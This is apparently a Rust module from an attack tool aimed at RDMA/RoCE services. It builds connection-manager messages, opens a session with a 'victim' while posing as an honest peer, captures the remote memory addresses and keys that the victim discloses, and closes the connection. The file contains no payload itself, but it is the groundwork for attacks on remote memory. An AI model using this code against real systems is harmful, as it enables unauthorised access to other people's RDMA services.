//! How an honest peer begins, speaks and ends: the connection manager's messages (12.6), and Sends.

use std::io;
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use super::packet::{ACK, BITS, Packet, SEND_ONLY, UD_SEND_ONLY, Wire};
use crate::rng::Rng;
use crate::target::Place;

pub const REQ: u16 = 0x10;
pub const MRA: u16 = 0x11;
pub const REJ: u16 = 0x12;
pub const REP: u16 = 0x13;
pub const RTU: u16 = 0x14;
pub const DREQ: u16 = 0x15;
pub const DREP: u16 = 0x16;

/// How long anything may take.
const PATIENCE: Duration = Duration::from_secs(20);
/// Payload of a full packet, 1,024 bytes, and its code.
pub const MTU: usize = 1024;
const MTU_CODE: u8 = 3;

/// Who is attacked.
#[derive(Clone, Copy, Debug)]
pub struct Target {
    pub ip: Ipv4Addr,
    /// The port number of `rdma_cm`.
    pub service: u16,
}

/// A message of the connection manager.
#[derive(Clone, Debug)]
pub struct Mad {
    pub attribute: u16,
    pub transaction: u64,
    pub body: Vec<u8>,
}

impl Mad {
    pub fn new(attribute: u16, transaction: u64) -> Mad {
        Mad {
            attribute,
            transaction,
            body: vec![0; 232],
        }
    }

    #[must_use]
    pub fn put(mut self, at: usize, bytes: &[u8]) -> Mad {
        self.body[at..at + bytes.len()].copy_from_slice(bytes);
        self
    }

    /// The numbers of the connection: the sender's and the receiver's.
    #[must_use]
    pub fn ids(self, local: u32, remote: u32) -> Mad {
        self.put(0, &local.to_be_bytes())
            .put(4, &remote.to_be_bytes())
    }

    pub fn word(&self, at: usize) -> u32 {
        u32::from_be_bytes(self.body[at..at + 4].try_into().expect("four"))
    }

    pub fn packet(&self) -> Packet {
        let mut packet = Packet::new(UD_SEND_ONLY, 1, 0);
        packet.ask = false;
        packet.rest.extend(0x8001_0000_u32.to_be_bytes());
        packet.rest.extend(1_u32.to_be_bytes());
        packet.rest.extend([1, 7, 2, 3, 0, 0, 0, 0]);
        packet.rest.extend(self.transaction.to_be_bytes());
        packet.rest.extend(self.attribute.to_be_bytes());
        packet.rest.extend([0; 6]);
        packet.rest.extend(&self.body);
        packet
    }

    pub fn parse(packet: &Packet) -> Option<Mad> {
        if packet.qp != 1 || packet.opcode != UD_SEND_ONLY {
            return None;
        }
        let mad = packet.rest.get(8..8 + 256)?;
        Some(Mad {
            attribute: u16::from_be_bytes([mad[16], mad[17]]),
            transaction: u64::from_be_bytes(mad[8..16].try_into().ok()?),
            body: mad[24..].to_vec(),
        })
    }
}

fn gid(ip: Ipv4Addr) -> [u8; 16] {
    ip.to_ipv6_mapped().octets()
}

/// A request for a connection with nothing wrong in it.
pub fn req(target: Target, from: Ipv4Addr, id: u32, transaction: u64, qp: u32, psn: u32) -> Mad {
    let service = 0x0106_u64 << 16 | u64::from(target.service);
    let mut header = [0; 36];
    header[1] = 0x40;
    header[2..4].copy_from_slice(&4711_u16.to_be_bytes());
    header[16..20].copy_from_slice(&from.octets());
    header[32..36].copy_from_slice(&target.ip.octets());
    Mad::new(REQ, transaction)
        .ids(id, 0)
        .put(8, &service.to_be_bytes())
        .put(16, &7_u64.to_be_bytes())
        .put(32, &(qp << 8 | 8).to_be_bytes())
        .put(39, &[8])
        // 1.07 s to answer, a reliable connection.
        .put(43, &[18 << 3])
        .put(44, &(psn << 8 | 18 << 3 | 7).to_be_bytes())
        .put(48, &[0xff, 0xff, MTU_CODE << 4 | 7, 7 << 4])
        .put(52, &[0xff; 4])
        .put(56, &gid(from))
        .put(72, &gid(target.ip))
        .put(93, &[64])
        .put(95, &[14 << 3])
        .put(140, &header)
}

/// A connection with which nothing is wrong yet.
#[derive(Debug)]
pub struct Session {
    pub wire: Wire,
    /// Our number of the connection, and the victim's.
    pub ids: (u32, u32),
    transaction: u64,
    /// Our queue pair, and the victim's.
    pub own_qp: u32,
    pub qp: u32,
    /// The next packet that we send, and that the victim sends.
    pub psn: u32,
    pub expected: u32,
    pub told: Vec<Place>,
}

impl Session {
    /// Joins the victim.
    pub fn join(target: Target, wire: Wire, rng: &mut Rng) -> io::Result<Session> {
        let mut wire = wire;
        let random = |rng: &mut Rng| rng.next() as u32;
        let (id, own_qp) = (random(rng) | 1, random(rng) & 0x7f_ffff | 0x100);
        let (expected, transaction) = (random(rng) & BITS, rng.next());
        let request = req(target, wire.ip(), id, transaction, own_qp, expected);
        let until = Instant::now() + PATIENCE;
        let rep = loop {
            if Instant::now() >= until {
                return Err(io::ErrorKind::TimedOut.into());
            }
            wire.send(&request.packet())?;
            let answer = mad(&mut wire, id, Duration::from_millis(500))?;
            match answer {
                Some(mad) if mad.attribute == REP => break mad,
                // It is full, and will not always be.
                Some(mad) if mad.attribute == REJ => {
                    return Err(io::ErrorKind::ConnectionRefused.into());
                }
                _ => {}
            }
        };
        let theirs = rep.word(0);
        wire.send(&Mad::new(RTU, transaction).ids(id, theirs).packet())?;
        let place = |at: usize| Place {
            addr: u64::from_be_bytes(rep.body[at..at + 8].try_into().expect("eight")),
            stag: rep.word(at + 8),
            len: rep.word(at + 12),
        };
        Ok(Session {
            wire,
            ids: (id, theirs),
            transaction,
            own_qp,
            qp: rep.word(12) >> 8,
            psn: rep.word(20) >> 8,
            expected,
            told: (0..6).map(|n| place(36 + 16 * n)).collect(),
        })
    }

    /// A request with the next number.
    pub fn next(&mut self, opcode: u8) -> Packet {
        let packet = Packet::new(opcode, self.qp, self.psn);
        self.psn = self.psn.wrapping_add(1) & BITS;
        packet
    }

    /// Sends one.
    pub fn say(&mut self, packet: &Packet) -> io::Result<()> {
        self.wire.send(packet)
    }

    /// The next packet for our queue pair within this time.
    pub fn hear(&mut self, limit: Duration) -> io::Result<Option<Packet>> {
        let until = Instant::now() + limit;
        loop {
            let left = until.saturating_duration_since(Instant::now());
            let Some(bytes) = self.wire.recv(left)? else {
                return Ok(None);
            };
            if let Some(packet) = Packet::parse(&bytes).filter(|packet| packet.qp == self.own_qp) {
                return Ok(Some(packet));
            }
        }
    }

    /// Sends an order and takes the answer, as an honest peer. `false`: the victim does not answer.
    pub fn echo(&mut self, bytes: &[u8], limit: Duration) -> io::Result<bool> {
        let mut order = b"E".to_vec();
        order.extend(bytes);
        let send = self.next(SEND_ONLY).payload(&order);
        let until = Instant::now() + limit;
        while Instant::now() < until {
            self.say(&send)?;
            let again = Instant::now() + Duration::from_millis(200);
            while Instant::now() < again {
                let Some(packet) = self.hear(Duration::from_millis(100))? else {
                    continue;
                };
                if packet.opcode != SEND_ONLY {
                    continue;
                }
                let fits = packet.psn == self.expected;
                if fits {
                    self.expected = self.expected.wrapping_add(1) & BITS;
                }
                let ack = Packet::new(ACK, self.qp, packet.psn).aeth(0x1f, 0);
                self.say(&ack)?;
                if fits && packet.rest == order {
                    return Ok(true);
                }
            }
        }
        Ok(false)
    }

    /// Ends it as an honest peer does, and gives the socket back.
    pub fn leave(mut self) -> io::Result<Wire> {
        let dreq = Mad::new(DREQ, self.transaction ^ 1)
            .ids(self.ids.0, self.ids.1)
            .put(8, &(self.qp << 8).to_be_bytes());
        for _ in 0..10 {
            self.wire.send(&dreq.packet())?;
            let answer = mad(&mut self.wire, self.ids.0, Duration::from_millis(500))?;
            if answer.is_some_and(|mad| mad.attribute == DREP) {
                return Ok(self.wire);
            }
        }
        Err(io::Error::other("the victim does not say that it is over"))
    }
}

/// The next message of the manager about this connection of ours.
fn mad(wire: &mut Wire, id: u32, limit: Duration) -> io::Result<Option<Mad>> {
    let until = Instant::now() + limit;
    loop {
        let left = until.saturating_duration_since(Instant::now());
        let Some(bytes) = wire.recv(left)? else {
            return Ok(None);
        };
        let mad = Packet::parse(&bytes).and_then(|packet| Mad::parse(&packet));
        if let Some(mad) = mad.filter(|mad| mad.word(4) == id) {
            return Ok(Some(mad));
        }
    }
}
